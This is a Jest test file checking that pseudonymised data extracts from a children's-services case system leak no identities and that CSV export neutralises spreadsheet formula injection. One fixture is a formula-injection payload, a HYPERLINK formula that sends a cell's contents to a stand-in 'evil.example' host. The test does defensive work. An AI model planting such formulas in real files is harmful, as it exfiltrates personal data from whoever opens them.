import { ExtractRegistry } from '../../src/extracts/extract-registry';
import { buildCaseHistory, CaseHistory } from '../helpers/case-history';
import { setupTestApp } from '../helpers/setup';
import { TestUser } from '../helpers/test-app';

const UUID = /[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/i;
const NHS_NUMBER = '9434765919';
const LEAD_REASON = `Amara Okafor (NHS ${NHS_NUMBER.replace(/(\d{3})(\d{3})(\d{4})/, '$1 $2 $3')}) trusts her; mum Grace agrees`;
const EVIL_ORGANISATION = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

/**
 * The attack: an analyst (or whoever the extract is emailed to) reads identities out of a
 * "pseudonymised" extract, or a crafted value runs as a formula when the CSV opens in Excel.
 */
describe('pseudonymised extracts leak no identities, free text or formulas', () => {
  let h: CaseHistory;
  let analyst: TestUser;
  const today = new Date().toISOString().slice(0, 10);
  const download = async (name: string, format: 'csv' | 'ndjson') =>
    (
      await t
        .as(analyst)
        .get(`/extracts/${name}`)
        .query({ from: '2026-01-01', to: today, format })
        .buffer(true)
        .parse((res, done) => {
          let text = '';
          res.on('data', (chunk: Buffer) => (text += chunk.toString()));
          res.on('end', () => done(null, text));
        })
        .expect(200)
    ).body as string;

  const { t } = setupTestApp({});
  beforeAll(async () => {
    h = await buildCaseHistory(t, { leadReason: LEAD_REASON, organisationName: EVIL_ORGANISATION });
    await t.sql.query(`UPDATE persons SET nhs_number = $1 WHERE id = $2`, [NHS_NUMBER, h.childId]);
    analyst = await t.user(['analyst']);
    t.app.get(ExtractRegistry).register({
      name: 'formula-fixture',
      description: 'cells that spreadsheets would run',
      sql: `SELECT '=1+1'::text AS "Equals", '+1'::text AS "Plus", '-2'::text AS "Minus text", '@SUM(A1)'::text AS "At",
                   E'\\tTab'::text AS "Tab", E'\\rCR'::text AS "CR", -3::int AS "Negative integer",
                   -2.5::numeric AS "Negative decimal", DATE '2026-01-02' AS "Date", 'plain'::text AS "Plain",
                   NULL::text AS "Empty"`,
    });
  });

  const realExtracts = () =>
    t.app
      .get(ExtractRegistry)
      .all()
      .filter((extract) => extract.name !== 'formula-fixture');

  it.each(['csv', 'ndjson'] as const)(
    'no name, NHS number, free text, reference or raw id in any %s extract',
    async (format) => {
      const names = realExtracts().map((extract) => extract.name);
      expect(names).toEqual(
        expect.arrayContaining([
          'assessments',
          'episodes',
          'lead-professional-assignments',
          'marfs',
          'taf-plans',
          'transitions',
        ]),
      );
      const secrets = [
        'Okafor',
        'Amara',
        'Grace',
        'trusts her',
        NHS_NUMBER,
        NHS_NUMBER.slice(0, 3) + ' ' + NHS_NUMBER.slice(3, 6),
        h.marfReference,
        'MARF-',
        ...Object.values(h).filter((value): value is string => typeof value === 'string' && UUID.test(value)),
      ];
      let rows = 0;
      for (const name of names) {
        const text = await download(name, format);
        rows += text.trim().split('\n').length - (format === 'csv' ? 1 : 0);
        for (const secret of secrets)
          expect({ name, leaked: text.includes(secret) ? secret : null }).toEqual({ name, leaked: null });
        expect({ name, uuid: UUID.exec(text)?.[0] ?? null }).toEqual({ name, uuid: null });
      }
      // Every extract had the family's records in range: the test looked at real rows, not headers.
      expect(rows).toBeGreaterThanOrEqual(names.length);
    },
  );

  it('the reporting schema (BI tools) shows no name, NHS number, free text or MARF reference either', async () => {
    const views = await t.sql.query<{ name: string }>(
      `SELECT c.relname AS name FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
        WHERE n.nspname = 'reporting' AND c.relkind = 'v' ORDER BY 1`,
    );
    expect(views.rows.map((view) => view.name)).toEqual(expect.arrayContaining(['marfs', 'people', 'episodes']));
    const secrets = ['Okafor', 'Amara', 'Grace', 'trusts her', NHS_NUMBER, h.marfReference, 'MARF-'];
    let rows = 0;
    await t.sql.query('SET ROLE eh_reporting');
    try {
      for (const { name } of views.rows) {
        const result = await t.sql.query<{ row: string }>(`SELECT v::text AS row FROM reporting.${name} v`);
        rows += result.rows.length;
        const text = result.rows.map((row) => row.row).join('\n');
        for (const secret of secrets)
          expect({ name, leaked: text.includes(secret) ? secret : null }).toEqual({ name, leaked: null });
      }
    } finally {
      await t.sql.query('RESET ROLE');
    }
    expect(rows).toBeGreaterThan(views.rows.length);
  });

  it('codes the Lead Professional reasons instead of extracting them', async () => {
    const [header, row] = (await download('lead-professional-assignments', 'csv')).slice(1).trim().split('\n');
    expect(header).toContain('Started as,Ended as');
    expect(header).not.toMatch(/Reason/i);
    expect(row).toMatch(/,first_lead,$/);
  });

  it("neutralises a text cell that starts a formula with a leading ', as it leaves in CSV", async () => {
    const csv = await download('episodes', 'csv');
    expect(csv).toContain(`"'${EVIL_ORGANISATION.replace(/"/g, '""')}"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('prefixes text starting with =, +, -, @, tab or carriage return; numbers, dates and empty cells stay as they are', async () => {
    const [header, ...rest] = (await download('formula-fixture', 'csv')).slice(1).split('\n');
    expect(header).toBe('Equals,Plus,Minus text,At,Tab,CR,Negative integer,Negative decimal,Date,Plain,Empty');
    expect(rest.join('\n')).toBe(`'=1+1,'+1,'-2,'@SUM(A1),'\tTab,"'\rCR",-3,-2.5,2026-01-02,plain,\n`);
  });

  it('keeps NDJSON values typed and unchanged (it is read by programs, not spreadsheets)', async () => {
    const [document] = (await download('formula-fixture', 'ndjson')).trim().split('\n');
    expect(JSON.parse(document!)).toMatchObject({ Equals: '=1+1', 'Minus text': '-2', 'Negative integer': -3 });
  });
});
